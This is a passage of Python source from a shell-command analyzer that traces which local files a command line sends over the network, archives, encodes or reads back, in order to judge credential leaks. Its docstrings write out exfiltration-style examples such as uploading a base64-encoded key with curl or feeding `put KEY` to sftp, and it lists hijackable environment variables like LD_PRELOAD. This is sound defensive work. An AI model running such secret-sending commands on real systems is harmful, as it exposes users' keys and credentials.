        for p in d.passes[:64]:
            if p is d:
                continue
            have = set(p.downstream)
            for name in d.downstream[:MAX_PIPE_NAMES]:
                if name not in have and len(have) < MAX_PIPE_NAMES:
                    p.downstream.append(name)
                    have.add(name)


# programs that print a form of the path they are given (`readlink -f $(which git)`)
_OPERAND_PRINTERS = frozenset({"readlink", "greadlink", "realpath", "grealpath", "dirname", "echo", "printf"})

_CHMOD_OCTAL = lazyre.compile(r"[0-7]{1,4}")
_CHMOD_SYMBOLIC = lazyre.compile(r"[ugoa]*[-+=][rwxXst]*(?:,[ugoa]*[-+=][rwxXst]*)*")


def _same_shell(via: str) -> bool:
    """Does a layer reached this way run in the line's own shell (the top, `eval`, `source`), so the
    variables it sets outlive it — unlike `bash -c`, `$(…)` or a pipeline's subshell?"""
    return all(p == "eval" or p.startswith(("source ", ". ")) for p in via.split(" → ")) if via else True


def _one_word(v: str) -> str:
    return v.replace(_UNQUOTED_SPLIT, " ")


def _is_lookup(argv: "Sequence[str]") -> bool:
    """Does this command print where a program lives (which, command -v, type -P, whereis, hash -t)?"""
    if not argv:
        return False
    if argv[0] in _LOOKUP_PROGRAMS:
        return True
    if argv[0] == "command":
        return any(a in ("-v", "-V") for a in argv[1:])
    return argv[0] == "hash" and "-t" in argv[1:]


def _from_lookup(drafts: "Sequence[_Draft]") -> bool:
    """Do these commands (or the ones they print on) print a PATH lookup's answer?"""
    return any(_is_lookup(d.argv) for d in _through_passes(drafts))


def _through_passes(drafts: "Sequence[_Draft]") -> "Iterator[_Draft]":
    """These commands, then every command whose output they print on (each once, 64 at most: a line
    of many stages is bounded like every other walk here)."""
    seen: set[int] = set()
    todo = list(drafts)
    while todo and len(seen) < 64:
        d = todo.pop()
        if id(d) in seen:
            continue
        seen.add(id(d))
        yield d
        todo.extend(d.passes)


def _disabled_operands(argv: "Sequence[str]") -> list[str]:
    """Operands a command leaves unrunnable where they were, without deleting or writing them: `chmod
    -x F`, `chmod 644 F` (no execute bit left), `mv F elsewhere` (nothing at F any more)."""
    if not argv:
        return []
    prog, args = argv[0], list(argv[1:])
    if prog in ("chmod", "gchmod"):
        ops = [a for a in args if not a.startswith("-") or _CHMOD_SYMBOLIC.fullmatch(a)]
        if any(a.startswith("--reference") for a in args) or len(ops) < 2:
            return []
        mode, files = ops[0], ops[1:]
        if _CHMOD_OCTAL.fullmatch(mode):
            return files if all(int(c) % 2 == 0 for c in mode[-3:]) else []
        if _CHMOD_SYMBOLIC.fullmatch(mode):
            takes = any("-" in c and "x" in c.split("-", 1)[1] or "=" in c and "x" not in c.split("=", 1)[1]
                        for c in mode.split(","))
            return files if takes else []
        return []
    if prog in ("mv", "gmv"):
        pos = positionals(args, frozenset({"-t", "--target-directory", "-S", "--suffix"}))
        into = any(a == "-t" or a.startswith("--target-directory") for a in args)
        return pos if into else pos[:-1]
    return []


# programs that print the files named as their operands (under xargs: the words on stdin)
_XARGS_READERS = FILE_READERS | frozenset({"base64", "xxd", "od", "hexdump", "strings", "nl", "bat", "batcat", "zcat",
                                           "gzip", "bzip2", "xz", "zstd", "tar", "zip", "cp", "gpg", "openssl"})


# readers xargs may hand a listing that also write a destination of their own (not judged as find -exec)
_LISTED_WRITERS = frozenset({"cp", "tar", "zip", "gzip", "bzip2", "xz", "zstd"})


# programs that send what they read on stdin over the network (a `< F` redirect is F sent)
_STDIN_SENDERS = STDIN_SENDERS
_HANDOFF_COPIERS = _COPIERS | {"dd"}  # (dd: if=SRC of=DST)
_ARCHIVERS = frozenset({"tar", "gtar", "bsdtar", "zip", "7z", "7za", "rar"})


def files_sent(prog: str, args: "Sequence[str]", redirects: "Sequence[Redirect]",
               stdin: "str | None" = None) -> "list[tuple[str, str]]":
    """(file as written, the same command reading it from stdin) for each local file `prog args`
    sends over the network: `curl -T /tmp/k URL` → ("/tmp/k", "curl -T - URL"). A hand-off — the
    file made earlier on the line (here) or in an earlier call (the daemon's memory) — is then judged
    as `PRODUCER | SENDER`."""
    sent = list(uploaded_files(prog, args, stdin))
    if prog in _STDIN_SENDERS:
        sent += [r.target for r in redirects if r.op == "<" and r.target]
    return [(f, " ".join(_word(a) for a in [prog] + [_as_stdin(a, f) for a in args]))
            for f in dict.fromkeys(sent) if f]


# list-file options: the program reads the file as the words xargs would hand it on stdin
_LIST_FILE_OPTS = {"xargs": ("-a", "--arg-file"), "parallel": ("-a", "--arg-file"),
                   "pip": ("-r", "--requirement"), "pip3": ("-r", "--requirement")}
# batch-file options: the file holds the commands the program would otherwise read on stdin (`-b -`)
_BATCH_FILE_OPTS = {"sftp": ("-b",), "lftp": ("-f",)}


def files_read_back(prog: str, args: "Sequence[str]", redirects: "Sequence[Redirect]",
                    wrappers: "Sequence[str]" = ()) -> "list[tuple[str, str]]":
    """(file as written, the same command reading it from a pipe) for each file `prog args` reads as its
    list of words: `xargs pip uninstall -y < /tmp/l` → `xargs pip uninstall -y`,
    `pip uninstall -r /tmp/l` → `xargs pip uninstall`. A file the line wrote earlier is then judged as
    `PRODUCER | READER` (`pip freeze > /tmp/l; …` as `pip freeze | xargs pip uninstall -y`); a batch
    file of commands (`sftp -b F host`) as those commands on stdin. Files senders send are files_sent's."""
    batch = _BATCH_FILE_OPTS.get(prog, ())
    for i, a in enumerate(args[:-1]):
        if a in batch and args[i + 1] != "-":
            # `sftp -b /tmp/b host` after `echo 'put KEY' > /tmp/b`: as `echo 'put KEY' | sftp -b - host`
            return [(args[i + 1], " ".join(_word(w) for w in [prog, *args[:i + 1], "-", *args[i + 2:]]))]
    if prog in _STDIN_SENDERS:
        return []
    # (stdin read back as a list of words only — xargs's, also as `xargs -a F`: `wc -l < F` reads the
    # listing for what it says)
    lister = next((w for w in wrappers if w in ("xargs", "parallel")), "")
    out = [(r.target, " ".join(_word(a) for a in [*([lister] if lister else []), prog, *args])) for r in redirects
           if r.op == "<" and r.fd in ("", "0") and r.target and (lister or prog in ("xargs", "parallel"))]
    opts = _LIST_FILE_OPTS.get(prog)
    if opts:
        i = 0
        while i < len(args):
            a = args[i]
            got = args[i + 1] if a in opts and i + 1 < len(args) else \
                next((a.split("=", 1)[1] for o in opts if o.startswith("--") and a.startswith(o + "=")), None)
            if got:
                rest = [*args[:i], *args[i + (1 if "=" in a else 2):]]
                words = [prog, *rest] if prog in ("xargs", "parallel") else ["xargs", prog, *rest]
                out.append((got, " ".join(_word(w) for w in words)))
            i += 1
    return out[:4]


def files_made_by(commands: "Sequence[SimpleCommand]", every_archive: bool = False) -> "list[tuple[str, str]]":
    """files_made over a parsed line's commands, a pipeline stage's output taking in the stages that
    feed it: `cat KEY | base64 > /tmp/k` → ("/tmp/k", "cat KEY | base64"). `every_archive`: also an
    archive of ordinary sources, as `cat SOURCES` (the daemon's memory follows those across calls)."""
    return [(t, p) for t, p, _ in files_made_with_writer(commands, every_archive)]


def files_made_with_writer(commands: "Sequence[SimpleCommand]", every_archive: bool = False,
                           computed: "Sequence[tuple[str, str]]" = ()) -> "list[tuple[str, str, str]]":
    """files_made_by, with the program that writes each file (`gunzip p.sh.gz` makes p.sh: its
    producer is `cat p.sh.gz`, its writer gunzip). `computed`: the line's variables set from commands
    (ParsedShell.computed), spelled out in the producers that use them."""
    out: list[tuple[str, str, str]] = []
    prev: "SimpleCommand | None" = None
    chain = ""
    names = dict(computed)
    for c in commands[:256]:
        if not c.argv:
            continue
        feed = chain if (c.piped and prev is not None and prev.via == c.via and prev.depth == c.depth) else ""
        out += [(t, p, c.program) for t, p in files_made(c.program, c.args, c.redirects, feed, every_archive, names)]
        me = " ".join(_word_computed(a, names) for a in c.argv)
        chain, prev = (feed + " | " + me if feed else me), c
    return out[:64]


_QUOTED_PATH = lazyre.compile(r"""['"]((?:~|\.{0,2}/|\.)[^'"\s]{0,200}|[\w.-]+\.(?:env|pem|key|json|ya?ml|toml|ini|cfg|conf|txt|db|sqlite3?)|\.env[\w.-]*)['"]""")


def inputs_of(c: SimpleCommand) -> "list[str]":
    """The files a command may read, as written: its `<` inputs, its non-option words that look like
    paths, and the path-like strings in the code it runs (`python3 -c "…open('.env')…"`). For a file
    a command writes in a way adr has no producer for (`xxd -p .env out`, `split .env p_`, `sed -n 'w
    F' .env`, code that copies a file): `cat INPUTS` is what may be in it."""
    out = [r.target for r in c.redirects if r.op == "<" and r.target]
    for a in c.args[:64]:
        if a.startswith("-") and "=" in a:
            a = a.split("=", 1)[1]
        if not a or a.startswith("-"):
            continue
        if " " in a or "(" in a:  # code: its quoted path-like strings
            out += [m.group(1) for m in _QUOTED_PATH.finditer(a[:65536])][:16]
        elif "/" in a or a.startswith((".", "~")) or "." in a:
            out.append(a)
    return list(dict.fromkeys(out))[:16]


_COMPUTED_REF = lazyre.compile(r"\$(?:\{([A-Za-z_][A-Za-z0-9_]*)\}|([A-Za-z_][A-Za-z0-9_]*))")


def _word_computed(a: str, computed: "dict[str, str] | None") -> str:
    """A word as a shell line, each `$NAME` in it that the line computed (`K=$(cat KEY)`) spelled as
    that computation: what `echo $K > f` puts into f is what `cat KEY` printed, and the producer
    remembered for f must say so (`echo '$K'` would say it holds two characters and a name)."""
    if not computed or "$" not in a:
        return _word(a)
    out: list[str] = []
    last = 0
    for m in _COMPUTED_REF.finditer(a[:MAX_ASSIGNED_VALUE]):
        raw = computed.get(m.group(1) or m.group(2) or "")
        if raw is None:
            continue
        if m.start() > last:
            out.append(_word(a[last:m.start()]))
        out.append(raw if len(raw) > 1 and raw[0] == raw[-1] == '"' else f'"{raw}"')
        last = m.end()
    if not out:
        return _word(a)
    if last < len(a):
        out.append(_word(a[last:]))
    return "".join(out)


def files_made(prog: str, args: "Sequence[str]", redirects: "Sequence[Redirect]",
               feed: str = "", every_archive: bool = False,
               computed: "dict[str, str] | None" = None) -> "list[tuple[str, str]]":
    """(file, a command that prints what goes into it) for the files this command writes whole: its
    stdout redirected to a file, a copy's destination, an archive being created. `feed`: the pipeline
    stages before it, whose output it reads; `computed`: the line's variables set from commands."""
    out: list[tuple[str, str]] = []
    me = " ".join(_word_computed(a, computed) for a in [prog] + list(args))
    fed = [r.target for r in redirects if r.op == "<" and r.target]
    if fed:  # `base64 < KEY > /tmp/k`: what it prints comes from KEY
        me += " < " + _word(fed[-1])
    elif feed:
        me = feed + " | " + me
    for r in redirects:
        if r.op in (">", ">>", ">|", "&>", "&>>") and r.target and not r.target.startswith("/dev/"):
            out.append((r.target, me))
    if prog == "tee" and (feed or fed):  # `cat .env | tee F`, `tee F < .env`: F holds what tee reads
        src = feed or "cat " + _word(fed[-1])
        out += [(a, src) for a in args if not a.startswith("-") and not a.startswith("/dev/")][:8]
    pos = [a for a in args if not a.startswith("-")]
    if prog in _HANDOFF_COPIERS and prog != "dd" and len(pos) >= 2:
        out.append((pos[-1], "cat " + " ".join(_word_computed(a, computed) for a in pos[:-1])))
    elif prog in ("split", "gsplit"):
        # `split -b 100 .env /tmp/p_`: the pieces /tmp/p_aa, /tmp/p_ab … (or 00, 01 with -d) hold the input
        spos = _positionals_skipping(args, _SPLIT_VALUED)
        if spos and spos[0] != "-":
            prefix = spos[1] if len(spos) > 1 else "x"
            out += [(prefix + sfx, "cat " + _word(spos[0])) for sfx in ("aa", "ab", "00", "01")]
    elif prog in _PACKERS or prog in _UNPACKERS or prog in ("gpg", "gpg2", "openssl"):
        out += _packed(prog, args)
    elif prog == "dd":
        src = next((a[3:] for a in args if a.startswith("if=")), "")
        dst = next((a[3:] for a in args if a.startswith("of=")), "")
        if src and dst:
            out.append((dst, "cat " + _word(src)))
    elif prog in _ARCHIVERS:
        archive, srcs = "", []
        if prog in ("tar", "gtar", "bsdtar"):
            for k, a in enumerate(args):
                if a.startswith("--file="):
                    archive = a.split("=", 1)[1]
                elif (a == "--file" or (a.startswith("-") and not a.startswith("--") and a.endswith("f"))
                      or (k == 0 and not a.startswith("-") and a.endswith("f") and "c" in a)) and k + 1 < len(args):
                    archive = args[k + 1]
            srcs = [a for a in pos if a != archive and not (pos and a == pos[0] and not args[0].startswith("-")
                                                            and "c" in a and a.endswith("f"))]
        elif pos[:1] in (["a"], ["u"]) and prog in ("7z", "7za", "rar") and len(pos) >= 3:
            archive, srcs = pos[1], pos[2:]
        elif prog == "zip":
            zpos = _positionals_skipping(args, _ZIP_VALUED)
            if len(zpos) >= 2:
                archive, srcs = zpos[0], zpos[1:]
        # (a build folder archived and uploaded is a release; the tree itself, the home, a dot-file or
        # -folder, anything outside the project is what the rules on archives sent away are about)
        if archive and archive != "-" and any(_wide_source(a) for a in srcs):
            out.append((archive, "tar c " + " ".join(_word(a) for a in srcs)))
        elif archive and archive != "-" and srcs and every_archive:
            out.append((archive, "cat " + " ".join(_word(a) for a in srcs)))
    return out[:8]


# compressors that replace (or, with -k, keep) each file operand F by F+suffix: what it holds is F's
_PACKERS = {"gzip": ".gz", "pigz": ".gz", "bzip2": ".bz2", "pbzip2": ".bz2", "lbzip2": ".bz2", "xz": ".xz",
            "pixz": ".xz", "lzma": ".lzma", "zstd": ".zst", "pzstd": ".zst", "lz4": ".lz4", "brotli": ".br",
            "lzip": ".lz", "plzip": ".lz", "compress": ".Z", "lzop": ".lzo"}
_UNPACKERS = {"gunzip": ".gz", "bunzip2": ".bz2", "unxz": ".xz", "unlzma": ".lzma", "unzstd": ".zst",
              "unlz4": ".lz4", "uncompress": ".Z"}
_PACK_VALUED = frozenset({"-S", "--suffix", "-o", "--output", "-T", "--threads", "-p", "--processes", "-b", "-L",
                          "--memlimit", "-M", "-B", "--format", "-F", "--level", "-q", "--window", "-w"})
_GPG_VALUED = frozenset({"-r", "--recipient", "-u", "--local-user", "-o", "--output", "--passphrase", "--homedir",
                         "--cipher-algo", "--compress-algo", "-z", "--default-key", "--passphrase-file",
                         "--pinentry-mode", "--batch-size", "--trust-model", "--hidden-recipient", "-R"})


def _packed(prog: str, args: "Sequence[str]") -> "list[tuple[str, str]]":
    """(file, a command that prints what it holds) for what a compressor, decompressor or encryptor
    writes beside its operands (`gzip /tmp/e` → /tmp/e.gz; `gpg -c k` → k.gpg; `openssl enc -in k -out
    k.enc`): the same data in another form, so a later `curl -T /tmp/e.gz` sends what /tmp/e held. The
    producer is `cat F`: what matters is whose data it is (a compressed README sent is not "encoded
    data sent"; a compressed .env is .env sent)."""
    flags = [a for a in args if a.startswith("-")]
    if prog == "openssl":
        src = next((args[i + 1] for i, a in enumerate(args[:-1]) if a == "-in"), "")
        dst = next((args[i + 1] for i, a in enumerate(args[:-1]) if a == "-out"), "")
        return [(dst, "cat " + _word(src))] if src and dst and dst != "-" else []
    if prog in ("gpg", "gpg2"):
        if not any(f in ("-c", "--symmetric", "-e", "--encrypt", "-s", "--sign", "-a", "--armor") or
                   (not f.startswith("--") and f[1:].isalpha() and set(f[1:]) & set("ces")) for f in flags):
            return []
        files = _positionals_skipping(args, _GPG_VALUED)
        dst = next((args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-o", "--output")), "") or \
            next((a.split("=", 1)[1] for a in args if a.startswith("--output=")), "")
        if dst and dst != "-" and files:
            return [(dst, "cat " + _word(files[0]))]
        sfx = ".asc" if any(f in ("-a", "--armor") for f in flags) else ".gpg"
        return [(f + sfx, "cat " + _word(f)) for f in files[:8] if f != "-"]
    if any(f in ("-c", "--stdout", "--to-stdout", "-l", "--list", "-t", "--test", "-r", "--recursive") or
           (not f.startswith("--") and len(f) > 2 and set(f[1:]) & set("clt")) for f in flags):
        return []  # to stdout (a redirect says where), a listing, a test, a folder walk
    files = [f for f in _positionals_skipping(args, _PACK_VALUED) if f != "-"]
    dst = next((args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-o", "--output")), "")
    if dst and files:
        return [(dst, "cat " + _word(files[0]))]
    unpack = prog in _UNPACKERS or any(f in ("-d", "--decompress", "--uncompress") for f in flags)
    sfx = next((args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-S", "--suffix")), "") or \
        next((a.split("=", 1)[1] for a in args if a.startswith("--suffix=")), "") or \
        _PACKERS.get(prog) or _UNPACKERS.get(prog, "")
    if prog == "lz4" and len(files) == 2:  # `lz4 IN OUT`
        return [(files[1], "cat " + _word(files[0]))]
    if unpack:
        return [(f[:-len(sfx)], "cat " + _word(f)) for f in files[:8] if sfx and f.endswith(sfx) and len(f) > len(sfx)]
    return [(f + sfx, "cat " + _word(f)) for f in files[:8]]


_SPLIT_VALUED = frozenset({"-b", "--bytes", "-l", "--lines", "-n", "--number", "-a", "--suffix-length", "-C",
                           "--line-bytes", "-t", "--separator", "--additional-suffix", "--filter", "-p"})
_ZIP_VALUED = frozenset({"-P", "--password", "-b", "--temp-path", "-t", "--from-date", "-tt", "--before-date", "-n",
                         "--suffixes", "-Z", "--compression-method", "-O", "--output-file", "-s", "--split-size"})


def _positionals_skipping(args: "Sequence[str]", valued: "frozenset[str]") -> "list[str]":
    """The words that are not options or option values (`zip -e -P pw out.zip f` → out.zip, f)."""
    out: list[str] = []
    skip = False
    for a in args:
        if skip:
            skip = False
        elif a in valued:
            skip = True
        elif not a.startswith("-"):
            out.append(a)
    return out


_FD_VALUED = frozenset({"-t", "--type", "-e", "--extension", "-d", "--max-depth", "--min-depth", "-E", "--exclude",
                        "-j", "--threads", "-S", "--size", "--changed-within", "--changed-before", "-o", "--owner",
                        "--base-directory", "--search-path", "-c", "--color", "--max-results", "--ignore-file"})


def _fd_as_find(args: "list[str]") -> str:
    """`fd [opts] [PATTERN] [PATH…] -x|-X CMD…` as a find line: the paths, a `-name`/`-regex` for the
    pattern (none for `.`: everything), `-type`/extension/depth tests, and `-exec CMD {} +`."""
    k = next(i for i, a in enumerate(args) if a in ("-x", "--exec", "-X", "--exec-batch"))
    cmd = [a for a in args[k + 1:] if a not in (";", "\\;")] or ["echo"]
    words, tests, skip = [], [], ""
    for i, a in enumerate(args[:k]):
        if skip:
            if skip in ("-t", "--type") and a[:1] in ("d", "f", "l"):
                tests += ["-type", a[0]]
            elif skip in ("-e", "--extension"):
                tests += ["-name", "*." + a.lstrip(".")]
            elif skip in ("-d", "--max-depth"):
                tests += ["-maxdepth", a]
            elif skip in ("--search-path", "--base-directory"):
                words.append(a)
            skip = ""
        elif a in _FD_VALUED:
            skip = a
        elif not a.startswith("-"):
            words.append(a)
    pattern, paths = (words[0], words[1:]) if words else ("", [])
    if pattern and pattern not in (".", "^", ".*", "^.*$", "$"):
        lit = re.fullmatch(r"(\^?)((?:[\w-]|\\\.)+)(\$?)", pattern)
        if lit:
            name = lit.group(2).replace("\\", "")
            tests += ["-name", name if lit.group(1) and lit.group(3) else f"*{name}*"]
        else:
            tests += ["-regex", ".*" + pattern + ".*"]
    return " ".join(_sh_quote(w) for w in ["find", *(paths or ["."]), *tests, "-exec", *cmd, "{}", "+"])


# exported variables that change what a later command on the line does, passed on as its env
_INHERITED_ENV = lazyre.compile(r"TF_CLI_ARGS\w*|PULUMI_SKIP_CONFIRMATIONS|PULUMI_\w*YES\w*|LD_PRELOAD|LD_AUDIT|LD_LIBRARY_PATH"
                                r"|DYLD_\w+|GCONV_PATH|GIT_SSH(?:_COMMAND)?|GIT_EXEC_PATH|GIT_CONFIG_\w+|GIT_SSL_NO_VERIFY"
                                r"|GIT_PROXY_COMMAND|BASH_ENV|ENV"
                                r"|PYTHONSTARTUP|PYTHONPATH|NODE_OPTIONS|PERL5OPT|RUBYOPT|HISTFILE|HISTSIZE|PROMPT_COMMAND"
                                r"|npm_config_\w+|NPM_CONFIG_\w+|PIP_INDEX_URL|PIP_EXTRA_INDEX_URL|UV_INDEX_URL|CARGO_\w+")


def _parent(path: str) -> str:
    """What `dirname PATH` prints, keeping `.`, `..` and `~` relative: the parent of the working
    directory is `..`, not `.`."""
    p = path.rstrip("/") or "/"
    if p in (".", "..", "~") or p.endswith(("/.", "/..")):
        return p + "/.."
    head = posixpath.dirname(p)
    return head if head else "."


_PASSTHROUGH = frozenset({"sort", "uniq", "tee", "cat", "tac", "shuf"})  # stages that keep every line
# what `cargo vendor` prints (its vendored sources go to a folder; stdout is this config stanza)
_CARGO_VENDOR_STANZA = ('[source.crates-io]\nreplace-with = "vendored-sources"\n\n'
                        '[source.vendored-sources]\ndirectory = "vendor"\n')
_EMPTY_FROM_NOTHING = _PASSTHROUGH | {"head", "tail", "dd"}  # print (or write) nothing when stdin is empty
# programs that read their file operands (or stdin) and print what they read, transformed
_FILTERS = _PASSTHROUGH - {"tee"} | {"grep", "egrep", "fgrep", "rg", "sed", "gsed", "awk", "gawk", "mawk", "nawk",
                                     "head", "tail", "cut", "tr", "jq", "yq", "column", "fmt", "fold", "nl", "rev",
                                     "expand", "unexpand", "paste", "comm", "join", "iconv", "envsubst", "base64",
                                     "xxd", "od", "strings", "sops", "openssl", "gpg"}


def _reads_own_output(d: "_Draft", path: str) -> bool:
    """Does this filter read the very file its stdout is truncating? (`sort .env > .env`,
    `sed 's/a/b/' F > F`, `cat < F > F`: the shell empties F first, so F ends up empty.)"""
    if not d.argv or d.args_dynamic or d.argv[0] not in _FILTERS or any(c in path for c in "*?[{$`"):
        return False
    same = path.removeprefix("./")
    return any(a.removeprefix("./") == same for a in d.argv[1:] if not a.startswith("-")) or \
        any(r.op == "<" and r.target.removeprefix("./") == same for r in d.redirects)


def _git_file_reads(args: "list[str]") -> "list[str]":
    """Files of the disk (not of the repository) a git command prints or stores: the paths of `git
    diff --no-index`, `git hash-object` (without --stdin-paths)."""
    i = 0
    while i < len(args) and args[i].startswith("-"):  # global options: -C DIR, -c k=v …
        i += 2 if args[i] in ("-C", "-c", "--git-dir", "--work-tree", "--namespace") else 1
    sub, rest = (args[i], args[i + 1:]) if i < len(args) else ("", [])
    files = [a for a in rest if not a.startswith("-") and a != "/dev/null"]
    if sub == "diff" and "--no-index" in rest:
        return files
    if sub == "hash-object" and "--stdin" not in rest and "--stdin-paths" not in rest:
        return [a for k, a in enumerate(rest) if not a.startswith("-") and (k == 0 or rest[k - 1] not in ("-t", "--path"))]
    return []


# downloaders that read file:// URLs from the local disk
_FILE_URL_READERS = URL_READERS

# commands that print nothing on stdout (`{ echo FLUSHALL; sleep 1; } | nc …`: the group prints the echo)
_PRINTS_NOTHING = frozenset({"sleep", "true", "false", ":", "cd", "export", "unset", "set", "wait", "shift", "local",
                             "readonly", "declare", "typeset", "umask", "ulimit", "trap", "usleep", "sync"})


# code reading its command-line arguments (python, node, deno, bun, perl, ruby, php, R, awk, lua)
_ARGV_REF = lazyre.compile(r"\bsys\s*\.\s*argv\b|\bprocess\s*\.\s*argv\b|\bDeno\s*\.\s*args\b|\bBun\s*\.\s*argv\b|"
                           r"@ARGV|\$ARGV\b|\bARGV\b|\$argv\b|\bcommandArgs\b|\bshift\b|(?<![\w.])arg\s*\[")


def _after_code(args: "list[str]", code: str) -> "list[str]":
    """The arguments that follow inline code (`-c CODE a b`, `-cCODE a b`): the code's own argv."""
    k = next((i for i, a in enumerate(args) if a == code or len(a) > len(code) and a.endswith(code) and a.startswith("-")),
             None)
    return [] if k is None else list(args[k + 1:])


def _while_of(node: "ts.Node") -> "ts.Node | None":
    """The while loop a pipeline stage is: the loop itself, or one alone in `{ …; }` or `( … )`."""
    for _ in range(4):
        if node.type == "while_statement":
            return node
        if node.type not in ("compound_statement", "subshell"):
            return None
        kids = [c for c in node.named_children if c.type != "comment"]
        if len(kids) != 1:
            return None
        node = kids[0]
    return None


# database clients' options naming a file of statements
_SQL_FILE_OPTIONS = {p: ("-f", "--file") for p in ("psql", "pgcli", "psql16", "vsql", "usql", "cockroach")} | {
    "sqlcmd": ("-i", "--input-file"), "clickhouse-client": ("--queries-file",), "clickhouse": ("--queries-file",),
    "mysqlsh": ("-f", "--file"), "snowsql": ("-f", "--filename"), "trino": ("-f", "--file"), "beeline": ("-f",),
    "mongosh": ("-f", "--file"), "mongo": ("-f", "--file"), "duckdb": ("-f",), "sqlite3": ("-init",),
    "sqlite": ("-init",), "cqlsh": ("-f", "--file"), "hive": ("-f",), "spark-sql": ("-f",),
    "impala-shell": ("-f", "--query_file"), "clickhouse-local": ("--queries-file",),
    # `wrangler d1 execute DB --file=drop.sql` (only that subcommand: adr/engine/sqltext.py reads its statements)
    "wrangler": ("--file",)}


def _curl_config_args(text: str) -> "list[str]":
    """A curl config file (`-K`) as command-line options: `request = DELETE`, `--data "@f"`, `-X PUT`,
    `silent` (a switch); comments and blank lines skipped; at most 64 options."""
    out: list[str] = []
    for line in text.splitlines()[:256]:
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        m = re.match(r"(-{0,2})([A-Za-z0-9][\w-]*)(?:\s*[=:]\s*|\s+|$)(.*)$", line)
        if m is None:
            continue
        dashes, name, value = m.groups()
        flag = (dashes or ("-" if len(name) == 1 else "--")) + name
        value = value.strip()
        if len(value) >= 2 and value[0] == value[-1] == '"':
            value = re.sub(r'\\(.)', r"\1", value[1:-1])
        out += [flag, value] if value else [flag]
        if len(out) >= 64:
            break
    return out


def _read_names(cond: str) -> "list[str]":
    """The variables `read` sets in a while loop's condition (`read -r f`, `IFS= read -r -d '' f`,
    `read -r a b`; none named: REPLY)."""
    argv = cond.split()
    while argv and "=" in argv[0] and not argv[0].startswith("-"):
        argv.pop(0)  # IFS= …
    if not argv or argv[0] != "read":
        return []
    names, skip = [], False
    for a in argv[1:]:
        if skip:
            skip = False
        elif a in ("-d", "-n", "-N", "-p", "-t", "-u", "-a", "-i"):
            skip = True
        elif not a.startswith("-"):
            names.append(a)
    names = [n for n in names if re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", n)]
    return names or ["REPLY"]


MAX_SELECTIONS = 64  # grep selections kept as find tests (dropping more selects more files: stricter)


def _walk_filters(stages: "list[list[_Draft]]", i: int, memo: "dict[int, Any]",
                  classify: "Callable[[_Draft], tuple[bool, Any] | None]",
                  extend: "Callable[[Any, Any], Any] | None" = None) -> Any:
    """What reaches stage i from a source before it through filters, walking back: classify(stage)
    says what a stage is — (True, value): the source; (False, extra): a filter it passes through
    (extend(value, extra) adds what the filter does); None: neither, so nothing reaches. `memo`
    (index → what reaches the stage after it), shared by the calls over one pipeline, keeps a
    pipeline of 2,000 filters linear: each stage is read once, not once per later stage."""
    walked: list[tuple[int, Any]] = []
    k = i - 1
    while True:
        if k in memo:
            found = memo[k]
            break
        if k < 0 or len(stages[k]) != 1 or not stages[k][0].argv:
            found = None
            break
        kind = classify(stages[k][0])
        if kind is None or kind[0]:
            found = memo[k] = kind[1] if kind else None
            break
        walked.append((k, kind[1]))
        k -= 1
    for k, extra in reversed(walked):
        if found is not None and extend is not None:
            found = extend(found, extra)
        memo[k] = found
    return found


def _passes_lines(argv: "list[str]") -> bool:
    return argv[0] in _PASSTHROUGH and not any(not a.startswith("-") for a in argv[1:]) or _keeps_lines(argv)


def _as_lister_stage(d: "_Draft") -> "tuple[bool, Any] | None":
    lister = _as_find(d.argv)
    if lister is not None:
        return True, lister
    if _passes_lines(d.argv):
        return False, []
    sel = _grep_selects(d.argv)
    return (False, sel) if sel is not None else None


def _with_selection(found: "list[str]", sel: "list[str]") -> "list[str]":
    return found + sel if sel and len(found) < MAX_SELECTIONS else found


def _lister_through_filters(stages: "list[list[_Draft]]", i: int,
                            memo: "dict[int, list[str] | None] | None" = None) -> "list[str] | None":
    """The find command listing what reaches stage i: a lister right before it, or before stages that
    keep every line (`sort`, `uniq`, `grep -v X`: nearly every line) or select some (`grep X`: as find's
    `-path '*X*'`). `memo`: see _walk_filters."""
    return _walk_filters(stages, i, {} if memo is None else memo, _as_lister_stage, _with_selection)


def _ls_read_operands(ls: "_Draft") -> "list[str]":
    """The names an `ls` prints that a reader handed them opens as files worth judging: a credential
    file's own name, a glob, a folder's entries as `./*` (bare names in the working directory)."""
    return [p for p in (_printed_paths(ls) or []) if _secret_file_name(p) or p.startswith("./")
            or any(c in p for c in "*?[")][:4]


def _as_ls_stage(d: "_Draft") -> "tuple[bool, Any] | None":
    if d.argv[0] == "ls":
        return True, d
    if _passes_lines(d.argv) or d.argv[0] in ("head", "tail") and not any(
            not a.startswith("-") and not a.isdigit() for a in d.argv[1:]) or _grep_selects(d.argv) is not None:
        return False, None
    return None


def _ls_through_filters(stages: "list[list[_Draft]]", i: int,
                        memo: "dict[int, _Draft | None] | None" = None) -> "_Draft | None":
    """The `ls` whose entries reach stage i: right before it, or before stages that pass names on
    (`sort`, `grep -v pub`, `grep id_`, `head`, `awk '{print $1}'`): what reaches the reader is some
    of what ls printed, and judging all of it keeps `ls | grep -v pub | xargs cat` a read of keys.
    `memo`: see _walk_filters."""
    return _walk_filters(stages, i, {} if memo is None else memo, _as_ls_stage)


_CONTAINER_CLIS = frozenset({"docker", "podman", "nerdctl"})


def _container_listing_through_filters(stages: "list[list[_Draft]]", i: int) -> "list[str] | None":
    """The `docker ps` / `docker images` listing whose ids reach stage i whole: right before it, or
    before stages that keep (nearly) every line (`sort`, `awk '{print $1}'`, `grep -v X`). A grep
    that selects some lines narrows it: None, as for no listing at all."""
    k = i - 1
    while k >= 0 and len(stages[k]) == 1 and stages[k][0].argv:
        argv = stages[k][0].argv
        if argv[0] in _CONTAINER_CLIS:
            words = [a for a in argv[1:] if not a.startswith("-")]
            listing = words[:1] in (["ps"], ["images"]) or words[:2] in (["container", "ls"], ["container", "list"],
                                                                        ["image", "ls"], ["image", "list"])
            return list(argv) if listing else None
        if not (argv[0] in _PASSTHROUGH and not any(not a.startswith("-") for a in argv[1:])
                or _keeps_lines(argv) or _grep_selects(argv) == []):
            return None
        k -= 1
    return None


def _keeps_lines(argv: "list[str]") -> bool:
    """A stage that passes each line on, reshaped: a field cut out (`awk '{print $2}'`, `cut -c4-`,
    `cut -d' ' -f2`), `tee FILE`, `sed -n p`, `awk 1`, `tr -d '\r'`."""
    prog, args = argv[0], argv[1:]
